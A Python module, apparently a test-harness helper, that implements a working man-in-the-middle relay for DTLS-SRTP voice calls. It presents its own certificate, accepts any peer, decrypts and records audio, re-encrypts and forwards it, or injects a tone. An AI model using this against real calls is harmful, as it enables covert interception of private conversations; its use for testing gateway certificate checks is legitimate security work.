# SPDX-License-Identifier: GPL-2.0-or-later
"""The attackers' media box: a man in the middle of DTLS-SRTP.

It ends DTLS on both sides with a certificate of its own, decrypts, keeps what it hears,
encrypts anew and sends it on. Of plain RTP it keeps and sends on what comes.
"""
import datetime
import math
import select
import socket
import struct
import threading
import time

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from OpenSSL import SSL, crypto
from pylibsrtp import Policy, Session

import g711
import net
import tone

HERTZ, SSRC, PACKET = 700, 0xBAD, 160


def _certificate():
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "nobody")])
    now = datetime.datetime.utcnow()
    made = x509.CertificateBuilder().subject_name(name).issuer_name(name) \
        .public_key(key.public_key()).serial_number(x509.random_serial_number()) \
        .not_valid_before(now - datetime.timedelta(days=1)) \
        .not_valid_after(now + datetime.timedelta(days=2)).sign(key, hashes.SHA256())
    return crypto.PKey.from_cryptography_key(key), crypto.X509.from_cryptography(made)


class Leg:
    """One side: its socket, its DTLS association, its keys, and what was heard on it."""

    def __init__(self, ns, address, context):
        with net.inside(ns):
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.sock.bind((address, 0))
        self.port = self.sock.getsockname()[1]
        self.ssl = SSL.Connection(context)
        self.remote = self.rx = self.tx = None
        self.heard, self.media, self.begun = [], 0, False

    def start(self, remote, active):
        """The far end's address; `active` when the handshake is ours to begin."""
        self.remote = remote
        if not self.begun:
            self.begun = True
            (self.ssl.set_connect_state if active else self.ssl.set_accept_state)()
            self.active = active
            self.shake()

    def shake(self):
        if not self.begun or self.rx:
            return
        try:
            self.ssl.do_handshake()
        except SSL.WantReadError:
            pass
        except SSL.Error:
            return              # the far end does not want this certificate
        else:
            self._keys()
        self._flush()

    def again(self):
        """What is lost is sent once more."""
        if self.begun and not self.rx:
            SSL._lib.DTLSv1_handle_timeout(self.ssl._ssl)
            self._flush()

    def _flush(self):
        try:
            while True:
                data = self.ssl.bio_read(1500)
                for record in _records(data):
                    self.sock.sendto(record, self.remote)
        except SSL.Error:
            pass

    def _keys(self):
        """RFC 5764 section 4.2."""
        block = self.ssl.export_keying_material(b"EXTRACTOR-dtls_srtp", 60)
        client, server = block[:16] + block[32:46], block[16:32] + block[46:60]
        ours, theirs = (client, server) if self.active else (server, client)
        profile = Policy.SRTP_PROFILE_AES128_CM_SHA1_80
        self.rx = Session(Policy(key=theirs, ssrc_type=Policy.SSRC_ANY_INBOUND, srtp_profile=profile))
        self.tx = Session(Policy(key=ours, ssrc_type=Policy.SSRC_ANY_OUTBOUND, srtp_profile=profile))

    def take(self, data):
        """A datagram; returns the RTP packet in it that could be read, or None."""
        if 20 <= data[0] <= 63:
            self.ssl.bio_write(data)
            self.shake()
        elif 128 <= data[0] <= 191 and not 192 <= data[1] <= 223:
            self.media += 1
            try:
                packet = self.rx.unprotect(data) if self.rx else None
            except Exception:           # pylibsrtp.Error: not under these keys
                packet = None
            if packet:
                self.heard.append(packet[12:])
            return packet
        return None

    def send(self, packet):
        if self.tx and self.remote:
            self.sock.sendto(self.tx.protect(packet), self.remote)


def _records(data):
    """A datagram each for DTLS records: the socket of a gateway may read no more at once."""
    while data:
        size = 13 + struct.unpack_from("!H", data, 11)[0]
        yield data[:size]
        data = data[size:]


class Box:
    """For one call. With `tone` it speaks itself, and does not connect the two legs."""

    def __init__(self, ns, address):
        self.ns, self.address = ns, address
        key, self.certificate = _certificate()
        self.fingerprint = self.certificate.digest("SHA256").decode()
        self.context = SSL.Context(SSL.DTLS_METHOD)
        self.context.set_verify(SSL.VERIFY_PEER | SSL.VERIFY_FAIL_IF_NO_PEER_CERT, lambda *_: True)
        self.context.use_certificate(self.certificate)
        self.context.use_privatekey(key)
        self.context.set_tlsext_use_srtp(b"SRTP_AES128_CM_SHA1_80")
        self.wave = g711.encode([math.sin(2 * math.pi * HERTZ * n / tone.RATE) / 2
                                 for n in range(tone.RATE)])
        self.legs, self.speaks, self.thread = {}, False, None
        self.stopping = True

    def begin(self, speaks):
        """New legs, "a" towards the caller's gateway and "b" towards the callee's."""
        self.end()
        self.speaks, self.stopping = speaks, False
        self.legs = {x: Leg(self.ns, self.address, self.context) for x in "ab"}
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def end(self):
        self.stopping = True
        if self.thread:
            self.thread.join(5)
            self.thread = None
        for leg in self.legs.values():
            leg.sock.close()

    def heard(self, x):
        """The A-law of what came from that side and could be read."""
        return b"".join(self.legs[x].heard) if x in self.legs else b""

    def _run(self):
        of = {leg.sock: (leg, self.legs["b" if x == "a" else "a"]) for x, leg in self.legs.items()}
        due = again = time.monotonic()
        at = 0
        while not self.stopping:
            for sock in select.select(list(of), [], [], 0.01 if self.speaks else 0.1)[0]:
                leg, other = of[sock]
                packet = leg.take(sock.recv(2048))
                if packet and not self.speaks:
                    other.send(packet)
            now = time.monotonic()
            if now >= again:
                again = now + 0.3
                for leg in self.legs.values():
                    leg.again()
            if self.speaks and now >= due:
                due = max(due + 0.02, now - 0.1)
                packet = struct.pack("!BBHII", 0x80, 8, at // PACKET & 0xffff, at, SSRC) \
                    + self.wave[at % 8000:at % 8000 + PACKET]
                at += PACKET
                self.legs["a"].send(packet)
